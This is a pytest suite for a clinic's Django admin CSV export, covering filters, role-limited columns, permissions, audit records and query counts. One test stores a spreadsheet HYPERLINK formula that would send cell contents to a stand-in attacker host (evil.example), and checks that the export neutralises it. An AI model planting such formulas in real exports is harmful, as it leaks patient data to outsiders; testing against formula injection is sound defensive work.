"""The "Export CSV" of the four lists staff work from: the rows the list shows (filters and search), the
columns the role may see, values as words, formulas neutralised, refused without the view
permission, audited with who, the filters and the count, in a bounded number of queries."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from appointments.models import Appointment
from clinic.core.admin.exports import neutralised
from clinic.core.models import RecordView
from clinic.core.roles import CLINICIAN, FRONT_DESK
from tests.factories import (
    AppointmentRequestFactory,
    IntakeFactory,
    PhysicianFactory,
    ReferralFactory,
    StaffUserFactory,
)

pytestmark = pytest.mark.django_db

REFERRALS = "admin:referrals_referral_changelist"
INTAKES = "admin:intake_intake_changelist"
REQUESTS = "admin:appointments_appointmentrequest_changelist"
APPOINTMENTS = "admin:appointments_appointment_changelist"


def signed_in(client, role):
    user = StaffUserFactory(role=role) if role else StaffUserFactory()
    client.force_login(user)
    return user


def export(client, changelist, query="", rows=None):
    """The CSV the list at `changelist?query` exports: every row of the list, or those picked."""
    picked = {"_selected_action": [str(pk) for pk in rows]} if rows else {}
    everything = {} if rows else {"_selected_action": ["1"], "select_across": "1"}
    response = client.post(
        f"{reverse(changelist)}?{query}", {"action": "export_csv", "index": "0", **everything, **picked}
    )
    return response


def table(response) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    assert response.streaming
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_the_export_holds_the_rows_the_filters_and_search_chose_with_labels_not_codes(client):
    signed_in(client, FRONT_DESK)
    wanted = ReferralFactory(status="accepted", patient_last_name="Dupont")
    ReferralFactory(status="accepted", patient_last_name="Martin")
    ReferralFactory(status="submitted", patient_last_name="Dupont")

    header, *rows = table(export(client, REFERRALS, "status__exact=accepted&q=Dupont"))

    assert header[0] == "referral number"
    assert "patient" in header and "status" in header
    assert [row[0] for row in rows] == [wanted.number]
    row = dict(zip(header, rows[0], strict=True))
    assert row["status"] == "Accepted"  # the label, not the code "accepted"
    assert row["patient"] == f"Dupont, {wanted.patient_first_name}"
    assert row["provider verified"] == "yes"
    assert "<" not in ",".join(rows[0])  # the flags badge as words, not HTML


def test_only_the_ticked_rows_when_not_all_are_selected(client):
    signed_in(client, FRONT_DESK)
    first, _second = ReferralFactory(), ReferralFactory()

    _header, *rows = table(export(client, REFERRALS, rows=[first.pk]))

    assert [row[0] for row in rows] == [first.number]


def test_dates_are_in_the_clinic_time_zone(client, settings):
    settings.TIME_ZONE = "America/New_York"
    signed_in(client, FRONT_DESK)
    physician = PhysicianFactory()
    booked = AppointmentRequestFactory(status="booked")
    starts = datetime.datetime(2027, 1, 15, 14, 30, tzinfo=datetime.UTC)  # 9:30 in New York
    Appointment.objects.create(
        request=booked,
        patient=booked.patient,
        physician=physician,
        location=booked.location,
        visit_type=booked.visit_type,
        starts_at=starts,
        ends_at=starts + datetime.timedelta(hours=1),
        scheduled_at=timezone.now(),
    )

    header, row = table(export(client, APPOINTMENTS))

    assert dict(zip(header, row, strict=True))["starts"] == "2027-01-15 09:30"


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_cell_a_spreadsheet_would_run_is_prefixed_with_a_quote(client, start):
    signed_in(client, FRONT_DESK)
    formula = f'{start}HYPERLINK("http://evil.example/?x="&A1,"Click")'
    ReferralFactory(patient_last_name=formula, patient_first_name="Ann")

    header, row = table(export(client, REFERRALS))

    cell = dict(zip(header, row, strict=True))["patient"]
    assert cell == f"'{formula}, Ann"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_of_owasp_is_neutralised(start):
    assert neutralised(f"{start}1+2") == f"'{start}1+2"
    assert neutralised(f"a{start}1+2") == f"a{start}1+2"  # inside a cell, nothing runs


def test_a_tab_first_in_a_stored_value_reaches_the_file_neutralised(client):
    signed_in(client, FRONT_DESK)
    ReferralFactory(patient_last_name="\t=1+2", patient_first_name="Ann")

    header, row = table(export(client, REFERRALS))

    assert dict(zip(header, row, strict=True))["patient"] == "'\t=1+2, Ann"


def test_the_front_desk_gets_no_clinical_column_of_an_intake(client):
    signed_in(client, FRONT_DESK)
    IntakeFactory(last_name="Brembridge", crisis_flag=True, red_flag_tier="urgent")

    header, row = table(export(client, INTAKES))

    assert header == ["name", "date of birth", "status", "submitted", "flags"]
    text = ",".join(header + row)
    assert "PHQ" not in text and "score" not in text.lower()
    assert row[0].startswith("Brembridge, ")


def test_a_clinician_gets_the_scores_column(client):
    signed_in(client, CLINICIAN)
    IntakeFactory()

    header, _row = table(export(client, INTAKES))

    assert "headline scores" in header


@pytest.mark.parametrize("changelist", [REFERRALS, INTAKES, REQUESTS, APPOINTMENTS])
def test_staff_without_the_view_permission_are_refused_and_nothing_is_recorded(client, changelist):
    signed_in(client, None)
    ReferralFactory()

    response = export(client, changelist)

    assert response.status_code == 403
    assert not getattr(response, "streaming", False)
    assert not RecordView.objects.filter(kind=RecordView.Kind.EXPORT).exists()


def test_the_export_is_audited_with_who_the_filters_and_how_many_rows(client):
    user = signed_in(client, FRONT_DESK)
    for _ in range(3):
        ReferralFactory(status="accepted", patient_last_name="Dupont")
    ReferralFactory(status="submitted", patient_last_name="Dupont")

    _header, *rows = table(export(client, REFERRALS, "status__exact=accepted&q=Dupont"))

    assert len(rows) == 3
    entry = RecordView.objects.get(kind=RecordView.Kind.EXPORT)
    assert (entry.user, entry.username) == (user, user.username)
    assert entry.content_type.model == "referral"
    assert entry.filters == "status__exact=accepted"
    assert "Dupont" not in entry.filters and entry.search_terms == ""  # the search's own row has them
    assert entry.row_count == 3


def _make(changelist, count):
    if changelist == REFERRALS:
        ReferralFactory.create_batch(count)
    elif changelist == INTAKES:
        IntakeFactory.create_batch(count)
    elif changelist == REQUESTS:
        AppointmentRequestFactory.create_batch(count)
    else:
        physician = PhysicianFactory()
        for booked in AppointmentRequestFactory.create_batch(count, status="booked"):
            starts = timezone.now() + datetime.timedelta(days=7)
            Appointment.objects.create(
                request=booked,
                patient=booked.patient,
                physician=physician,
                location=booked.location,
                visit_type=booked.visit_type,
                starts_at=starts,
                ends_at=starts + datetime.timedelta(hours=1),
                scheduled_at=timezone.now(),
            )


# The session, the user, the permissions, the list's count, the audit row, and the rows themselves
# (one query with their related rows, one more per prefetch): the same for 5 rows as for 50.
MAX_QUERIES = {REFERRALS: 11, INTAKES: 10, REQUESTS: 11, APPOINTMENTS: 13}


@pytest.mark.parametrize("changelist", [REFERRALS, INTAKES, REQUESTS, APPOINTMENTS])
@pytest.mark.parametrize("count", [5, 50])
def test_an_export_costs_the_same_queries_for_5_rows_as_for_50(
    client, changelist, count, django_assert_max_num_queries
):
    signed_in(client, CLINICIAN if changelist == INTAKES else FRONT_DESK)
    _make(changelist, count)
    query = "status=all" if changelist == REQUESTS else ""

    with django_assert_max_num_queries(MAX_QUERIES[changelist]):
        _header, *rows = table(export(client, changelist, query))

    assert len(rows) == count
